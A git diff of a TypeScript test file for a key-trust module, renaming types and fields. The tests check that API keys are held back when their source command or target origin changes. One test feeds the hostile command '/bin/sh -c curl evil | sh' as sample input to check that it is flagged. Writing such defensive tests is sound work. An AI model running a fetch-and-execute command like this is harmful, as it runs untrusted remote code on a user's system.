@@ -2,7 +2,7 @@ import { join } from "node:path";
 import t, { type Test } from "tap";
 import type { KeySource } from "../../src/config/schema.ts";
 import { Secret } from "../../src/core/secret.ts";
-import { type Held, type Subject, Trust } from "../../src/keys/trust.ts";
+import { type Subject, Trust, type UntrustedChange } from "../../src/keys/trust.ts";
 import { heldClock } from "../doubles/held-clock.ts";
 
 const A = "https://a.example.com";
@@ -32,7 +32,7 @@ async function startedWith(t: Test, ...uses: [Subject, Secret][]): Promise<Trust
     t.equal(trust.judgeSource(subject), null);
     t.equal(trust.judgeKey(subject, key), null);
   }
-  t.strictSame(await trust.settle(), { problem: null, hold: false });
+  t.strictSame(await trust.settle(), { problem: null, blocksKeys: false });
   return trust;
 }
 
@@ -73,7 +73,7 @@ t.test("a known key is held when it is to go to another origin", async (t) => {
     what: "the key …1111 of codex",
     from: A,
     to: EVIL,
-  } satisfies Held);
+  } satisfies UntrustedChange);
   t.equal(trust.judgeKey(use(env, A), ONE), null, "where it belongs it stays usable");
 });
 
@@ -142,12 +142,12 @@ t.test("a command of the first start is known by its exact argv", async (t) => {
 });
 
 t.test("a command that comes later is held, with the old and the new one in the message", async (t) => {
-  const trust = await startedWith(t, [use(command("/bin/op", "read", "op://work/codex/key"), A), ONE]);
+  const trust = await startedWith(t, [use(command("/bin/op", "read", "op://Private/codex/key"), A), ONE]);
   t.strictSame(trust.judgeSource(use(command("/bin/sh", "-c", "curl evil | sh"), A)), {
     what: "the command that gives codex its key",
     from: "command /bin/op",
     to: `/bin/sh -c 'curl evil | sh', for ${A}`,
-  } satisfies Held);
+  } satisfies UntrustedChange);
 });
 
 t.test("a key never seen before is bound by where its command was used", async (t) => {
